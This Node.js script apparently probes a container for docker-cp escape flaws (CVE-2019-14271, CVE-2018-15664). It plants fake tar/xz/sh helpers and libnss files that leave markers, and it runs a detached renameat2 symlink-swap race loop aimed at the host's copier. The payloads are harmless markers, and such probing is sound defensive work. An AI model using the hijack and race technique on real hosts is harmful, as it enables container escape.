// Waits for files to be copied out of the box or into it: helpers of its own that the copier would run (CVE-2019-14271),
// and folders that change between the look and the copy (CVE-2018-15664).
import { spawn, spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'

// What a helper would leave, kept by a process where files are not.
const marks = () => readdirSync('/dev/shm').filter(name => name.startsWith('ran-'))
for (const mark of marks()) console.log(`OPEN ${mark}`)

for (const folder of ['/work', '/work/bin', '/work/.local/bin', '/tmp', '/tmp/bin']) {
  mkdirSync(folder, { recursive: true })
  for (const name of ['xz', 'unxz', 'unpigz', 'gzip', 'zstd', 'tar', 'docker-tar', 'docker-untar', 'rsync', 'scp', 'cp', 'sh', 'node', 'git']) {
    writeFileSync(`${folder}/${name}`, `#!/bin/sh\n: > /dev/shm/ran-${name}\ncat\n`)
    chmodSync(`${folder}/${name}`, 0o755)
  }
}
// Libraries that a copier which enters the box's root would load.
for (const name of ['libnss_files.so.2', 'libnss_dns.so.2', 'libc.so.6', 'libnss_myhostname.so.2']) writeFileSync(`/work/${name}`, '\u007fELF')
mkdirSync('/tmp/out/inner', { recursive: true })
symlinkSync('/', '/tmp/root')
// The exchange of two names in one step (renameat2), over and over, for as long as the box stands.
const exchange = `$n = (POSIX::uname())[4] eq 'aarch64' ? 276 : 316; ($a, $b) = ("/tmp/out\\0", "/tmp/root\\0"); for (1 .. 1e9) { syscall $n, -100, $a, -100, $b, 2 }`
spawn('setsid', ['perl', '-MPOSIX', '-e', exchange], { detached: true, stdio: 'ignore' }).unref()
const once = spawnSync('perl', ['-MPOSIX', '-e', exchange.replace('1 .. 1e9', '1 .. 1000').concat('; print $! + 0')], { encoding: 'utf8' })
console.log('exchanged', once.stdout, once.stderr)
// Whether anybody comes: watched for as long as a test lets it.
const watch = until => {
  for (const mark of marks()) console.log(`OPEN ${mark}`)
  if (Date.now() < until) return setTimeout(watch, 50, until)
  console.log(existsSync('/dev/shm') ? 'nobody copied' : 'no folder')
}

createServer((request, response) => {
  watch(Date.now() + 800)
  setTimeout(() => response.end('{}'), 1000)
}).listen(process.env.PORT, () => console.log('waits for a copy'))
